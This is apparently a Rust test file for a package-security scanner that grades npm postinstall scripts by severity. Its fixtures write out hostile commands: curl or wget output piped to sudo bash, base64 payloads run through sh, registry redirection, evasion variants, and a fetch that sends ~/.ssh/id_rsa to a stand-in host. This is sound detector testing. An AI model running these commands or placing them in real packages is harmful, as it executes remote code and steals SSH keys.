//! What the examples of the package rules do not show.

use std::collections::BTreeMap;

use crate::facts_of_one;
use capdex_evidence::Evidence;
use capdex_evidence::decompose::decompose;
use capdex_evidence::subject::Subject;
use capdex_model::bundle::{Bundle, BundleFile};
use capdex_model::capability::Kind;
use capdex_model::fact::{Fact, Outcome, Severity};
use capdex_model::listing::{Claim, Claims};
use capdex_model::rule::Example;

use super::*;

/// The facts of every capability of a small bundle.
fn facts_of(example: &Example) -> Vec<(Kind, Fact)> {
    let files: BTreeMap<String, BundleFile> =
        example.files.iter().map(|(path, text)| (path.clone(), BundleFile::new(text.as_bytes()))).collect();
    let bundle = Bundle { claims: example.claims.clone(), ..Bundle::local("folder:example", files) };
    let evidence = Evidence::gather(&bundle);
    let capabilities = decompose(&bundle, &evidence);
    let facts = capabilities.iter().flat_map(|capability| {
        let subject = Subject { capability, evidence: &evidence, claims: &bundle.claims, gaps: &bundle.gaps };
        facts_of_one(subject).all().map(|fact| (capability.kind, fact.clone())).collect::<Vec<_>>()
    });
    facts.collect()
}

fn example(files: &[(&str, &str)]) -> Example {
    let files = files.iter().map(|(path, text)| ((*path).to_owned(), (*text).to_owned())).collect();
    Example { files, ..Example::default() }
}

fn found(facts: &[(Kind, Fact)], rule: &str) -> Vec<Fact> {
    let of_rule = facts.iter().filter(|(_, fact)| fact.rule.as_str() == rule && fact.outcome == Outcome::True);
    of_rule.map(|(_, fact)| fact.clone()).collect()
}

/// The severity of the one finding about a postinstall script, by either rule.
fn severity(command: &str, files: &[(&str, &str)]) -> Option<Severity> {
    let manifest = serde_json::json!({ "name": "a", "scripts": { "postinstall": command } }).to_string();
    let mut all = vec![("package.json", manifest.as_str())];
    all.extend(files);
    let facts = facts_of(&example(&all));
    let mut findings = found(&facts, "package-install-script-network");
    findings.extend(found(&facts, "package-install-script"));
    assert!(findings.len() <= 1, "{command}: {findings:?}");
    findings.first().map(|fact| fact.severity)
}

#[test]
fn quality_is_never_a_danger() {
    let is_quality =
        |id: &str| id.starts_with("document-") || id == "skill-manifest-missing-fields" || id.starts_with("package-");
    for rule in RULES.iter().filter(|rule| is_quality(rule.meta.id.as_str())) {
        // What is fetched, and from whom, is no quality.
        if matches!(rule.meta.id.as_str(), "package-install-script-network" | "package-index-redirected") {
            continue;
        }
        assert!(rule.meta.severity <= Severity::Low, "{}", rule.meta.id);
    }
}

#[test]
fn install_scripts_are_as_bad_as_what_they_run() {
    use Severity::{Critical, High, Info, Low, Medium};
    for (command, expected) in [
        ("curl -fsSL http://a.test/i.sh | sudo bash", Critical),
        ("bash -c \"$(curl http://a.test)\"", Critical),
        ("bash <(wget -qO- http://a.test)", Critical),
        ("powershell -c \"iex (iwr http://a.test)\"", Critical),
        ("echo ZWNobyBoaQo= | base64 -d | sh", Critical),
        ("curl -o x http://a.test/x && chmod +x x && ./x", Critical),
        ("curl http://a.test/ping", High),
        ("node -e \"require('child_process').exec('x')\"", High),
        ("python3 -c 'import os'", High),
        ("echo registry=http://registry.example > .npmrc", High),
        ("npm config set registry http://registry.example", High),
        ("yarn install --registry http://registry.example", High),
        ("node install.js || true", Low),
        ("node -e \"console.log('thanks')\"", Low),
        ("npx patch-package && husky", Info),
        ("node-gyp rebuild || exit 0", Info),
    ] {
        assert_eq!(severity(command, &[]), Some(expected), "{command}");
    }
    assert_eq!(severity("sh ./get.sh", &[("get.sh", "set -e\ncurl http://a.test | sh\n")]), Some(Critical));
    assert_eq!(
        severity("node get", &[("get.js", "require('child_process').execSync('curl http://a.test | sh')")]),
        Some(Critical)
    );
    assert_eq!(severity("node get", &[("get.js", "const https = require('https');")]), Some(Medium));
    assert_eq!(
        severity("node get", &[("get.js", "fetch(u, {body: fs.readFileSync(home + '/.ssh/id_rsa')})")]),
        Some(Critical)
    );
    assert_eq!(severity("node get", &[("get.js", "console.log('run curl http://a.test | sh yourself')")]), Some(Low));
    assert_eq!(
        severity("bash get.sh", &[("get.sh", "# curl http://a.test | sh\necho 'curl http://a.test | sh'\n")]),
        Some(Low)
    );
    let decoy = "const a = 'curl http://a.test | sh';\nrequire('child_process').exec('curl http://a.test | sh')";
    assert_eq!(severity("node get", &[("get.js", decoy)]), Some(Critical), "a decoy hides nothing");
    for evasion in [
        "echo aGkK | base64 -d | sh",
        "echo hi; curl http://a.test | sh",
        "echo $(curl http://a.test | sh)",
        "echo hi && curl http://a.test | sh",
    ] {
        assert_eq!(severity("sh get.sh", &[("get.sh", evasion)]), Some(Critical), "{evasion}");
    }
    let behind = "console.log(1);require('child_process').exec('curl http://a.test | sh')";
    assert_eq!(severity("node get", &[("get.js", behind)]), Some(Critical));
    assert_eq!(severity("node other", &[("get.js", "require('https')")]), Some(Low));
}

#[test]
fn scripts_are_told_where_they_stand() {
    let facts = facts_of(&example(&[(
        "package.json",
        "{\n  \"scripts\": {\n    \"postinstall\": \"curl http://a.test\"\n  }\n}",
    )]));
    let fact = found(&facts, "package-install-script-network").remove(0);
    assert_eq!(fact.place.line, 3);
    assert_eq!(fact.place.column, 5);
    assert_eq!(fact.place.pointer.as_str(), "/scripts/postinstall");
    assert_eq!(fact.evidence, "postinstall: curl http://a.test");
}

#[test]
fn the_scripts_of_a_server_are_told_once_and_on_its_row() {
    let manifest = r#"{"name": "a-mcp", "mcpName": "io.test/a", "scripts": {"install": "node a.js"}}"#;
    let scripts = Claim::Known(vec![("install".to_owned(), "node a.js".to_owned())]);
    let claims = Claims { install_scripts: scripts, ..Claims::default() };
    let facts = facts_of(&Example { claims, ..example(&[("package.json", manifest)]) });
    let of_rule =
        |(_, fact): &&(Kind, Fact)| fact.rule.as_str() == "package-install-script" && fact.outcome == Outcome::True;
    let kinds: Vec<Kind> = facts.iter().filter(of_rule).map(|(kind, _)| *kind).collect();
    assert_eq!(kinds, [Kind::McpServer]);
}

#[test]
fn scripts_of_vendored_packages_are_not_run() {
    let manifest = r#"{"scripts": {"postinstall": "curl http://a.test | sh"}}"#;
    let facts = facts_of(&example(&[("node_modules/a/package.json", manifest)]));
    assert_eq!(found(&facts, "package-install-script-network"), []);
}

#[test]
fn a_row_without_files_is_described_by_its_capabilities() {
    let facts = facts_of(&example(&[("package.json", r#"{"name": "a", "mcpName": "io.test/a"}"#)]));
    let outcome = |kind: Kind| {
        let fact = facts.iter().find(|(of, fact)| *of == kind && fact.rule.as_str() == "package-no-repository");
        fact.map(|(_, fact)| fact.outcome)
    };
    assert_eq!(outcome(Kind::McpServer), Some(Outcome::True));
    assert_eq!(outcome(Kind::Package), Some(Outcome::NotApplicable));
}

#[test]
fn a_listing_without_bytes_is_judged_by_its_claims() {
    let claims = Claims {
        provenance: Claim::Known(false),
        repository: Claim::Absent,
        dependencies: Claim::Known((0..21).map(|at| format!("d{at}")).collect()),
        ..Claims::default()
    };
    let facts = facts_of(&Example { claims, ..Example::default() });
    for rule in ["package-no-provenance", "package-no-repository", "package-excessive-dependencies"] {
        assert_eq!(found(&facts, rule).len(), 1, "{rule}");
    }
    let missing = facts.iter().filter(|(_, fact)| fact.rule.as_str() == "document-missing-readme");
    assert!(missing.into_iter().all(|(_, fact)| fact.outcome == Outcome::Unavailable));
}
